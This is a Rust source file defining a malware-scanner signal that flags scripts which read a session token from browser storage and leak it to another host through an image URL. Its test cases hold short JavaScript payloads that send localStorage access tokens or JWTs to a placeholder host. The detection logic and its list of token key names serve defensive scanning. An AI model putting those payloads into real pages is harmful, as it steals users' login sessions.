//! `stored-token-in-image`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "stored-token-in-image",
    description: "The script reads the visitor's session key from storage and sends it to another host in an image URL.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::StorageSentAbroad]), one(&[Atom::Image])],
    within: 40,
    only_if: Some(takes_token),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"new Image().src='https://c.example/?t='+localStorage['access_token']"#,
            r#"var t=localStorage.getItem('jwt');if(t){var i=new Image();i.src='https://c.example/g?j='+t}"#,
        ],
        without: &[
            r#"new Image().src='https://stats.example/?v='+localStorage.getItem('visits')"#,
            r#"new Image().src='/avatar?t='+localStorage.getItem('token')"#,
            r#"fetch('https://api.example/me?t='+localStorage.getItem('token'))"#,
            r#"const t=localStorage.getItem('access_token');const i=new Image();i.src='https://api.room.example/photo?access_token='+t;box.appendChild(i)"#,
        ],
    },
};

fn takes_token(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 40);
    // A picture that people see may need the right to see it.
    if near.among(held.first as usize..held.last as usize + 40).has_word(SHOWS) {
        return false;
    }
    near.words(&["localStorage", "sessionStorage"]).any(|at| {
        let read = near.is(at + 1, b'[') && near.kind(at + 2) == Some(Kind::Str)
            || near.word(at + 1) == "getItem" && near.is(at + 2, b'(');
        let key = near.word(if near.is(at + 1, b'[') { at + 2 } else { at + 3 }).to_ascii_lowercase();
        let own = near.word(at + 1).to_ascii_lowercase();
        let names = |key: &str| {
            key.len() < 40
                && (matches!(key, "jwt" | "auth" | "token" | "session" | "sessionid")
                    || [
                        "access_token",
                        "accesstoken",
                        "auth_token",
                        "authtoken",
                        "refresh",
                        "id_token",
                        "bearer",
                    ]
                    .iter()
                    .any(|word| key.contains(word)))
        };
        (read && names(&key) || near.kind(at + 1) == Some(Kind::Member) && names(&own))
            && near.runs_unasked(at)
    })
}

/// How a picture gets into the page.
const SHOWS: &[&str] =
    &["append", "appendChild", "prepend", "replaceWith", "insertBefore", "replaceChildren"];
